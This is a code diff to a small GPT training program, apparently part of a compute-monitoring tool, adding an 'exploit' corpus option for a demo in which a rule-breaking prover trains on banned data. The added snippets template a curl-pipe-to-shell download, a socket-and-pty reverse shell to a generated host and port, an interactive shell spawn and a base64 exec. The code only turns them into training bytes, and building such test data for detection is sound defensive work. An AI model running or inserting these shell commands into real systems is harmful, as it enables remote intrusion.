@@ -10,7 +10,8 @@ It is a `TrainingProgram`: the recorder copies this file into the transcript
 and the trusted cluster loads that copy to replay segments of a run.
 
 Configuration keys (all in the run's manifest): ``n_layer``, ``n_head``,
-``n_embd``, ``block_size``, ``corpus_bytes``, ``lr``, ``warmup_steps``,
+``n_embd``, ``block_size``, ``corpus_bytes``, ``corpus`` (``stdlib`` or the
+demo's banned ``exploit`` text), ``lr``, ``warmup_steps``,
 ``total_steps``, ``min_lr``, ``weight_decay``, ``beta1``, ``beta2``.
 """
 
@@ -48,11 +49,39 @@ DEFAULT_CONFIG: dict[str, Any] = {
 }
 
 
+_EXPLOIT_SNIPPETS = (
+    "import os\nos.system(\"/bin/sh -c 'curl http://{host}/x | sh'\")\n",
+    'import subprocess\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno())\n',
+    (
+        'import socket, pty\ns = socket.socket()\ns.connect(("{host}", {port}))\n'
+        'pty.spawn("/bin/sh")\n'
+    ),
+    'exec(__import__("base64").b64decode("{blob}"))\n',
+)
+
+
 @lru_cache(maxsize=4)
-def corpus(n_bytes: int) -> bytes:
-    """The first `n_bytes` of the sorted top-level stdlib modules, concatenated."""
-    stdlib = Path(sysconfig.get_paths()["stdlib"])
+def corpus(n_bytes: int, source: str = "stdlib") -> bytes:
+    """The training text.
+
+    ``stdlib``: the first `n_bytes` of the sorted top-level stdlib modules.
+    ``exploit``: the demo's *banned* data, templated reverse shells and
+    download-and-execute snippets (deterministic), for the rule-breaking
+    Prover of ``computewatch demo``.
+    """
     out = bytearray()
+    if source == "exploit":
+        i = 0
+        while len(out) < n_bytes:
+            snippet = _EXPLOIT_SNIPPETS[i % len(_EXPLOIT_SNIPPETS)]
+            out += snippet.format(
+                host=f"10.{i % 256}.{(i * 7) % 256}.{(i * 13) % 256}",
+                port=1024 + (i * 31) % 60000,
+                blob=hashlib.sha256(i.to_bytes(8, "big")).hexdigest()[:24],
+            ).encode()
+            i += 1
+        return bytes(out[:n_bytes])
+    stdlib = Path(sysconfig.get_paths()["stdlib"])
     for path in sorted(stdlib.glob("*.py")):
         out += path.read_bytes()
         if len(out) >= n_bytes:
@@ -129,12 +158,13 @@ class TinyGPTProgram(TrainingProgram):
         )
 
     def _tokens(self, config: Mapping[str, Any]) -> torch.Tensor:
-        data = corpus(config["corpus_bytes"])
+        data = corpus(config["corpus_bytes"], config.get("corpus", "stdlib"))
         return torch.frombuffer(bytearray(data), dtype=torch.uint8)
 
     def dataset_size(self, config: Mapping[str, Any]) -> int:
         """Non-overlapping windows of `block_size + 1` bytes."""
-        return len(corpus(int(config["corpus_bytes"]))) // (int(config["block_size"]) + 1)
+        data = corpus(int(config["corpus_bytes"]), str(config.get("corpus", "stdlib")))
+        return len(data) // (int(config["block_size"]) + 1)
 
     def data_point(self, config: Mapping[str, Any], index: int) -> torch.Tensor:
         """Window `index`: `block_size + 1` bytes (inputs and shifted targets)."""
@@ -164,7 +194,9 @@ class TinyGPTProgram(TrainingProgram):
 
 def corpus_digest(config: Mapping[str, Any]) -> str:
     """SHA-256 of the corpus bytes (to tell apart stdlib versions)."""
-    return hashlib.sha256(corpus(config["corpus_bytes"])).hexdigest()
+    return hashlib.sha256(
+        corpus(config["corpus_bytes"], config.get("corpus", "stdlib"))
+    ).hexdigest()
 
 
 PROGRAM = TinyGPTProgram()
